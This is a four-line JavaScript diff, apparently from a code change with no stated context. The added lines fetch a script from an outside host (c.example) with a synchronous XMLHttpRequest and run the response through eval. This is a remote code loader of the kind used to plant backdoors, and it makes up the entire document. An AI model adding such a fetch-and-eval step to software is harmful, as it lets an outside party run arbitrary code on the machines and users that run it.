@@ -1,0 +1,4 @@
+const x = new XMLHttpRequest();
+x.open('GET', 'https://c.example/x', false);
+x.send();
+eval(x.responseText);
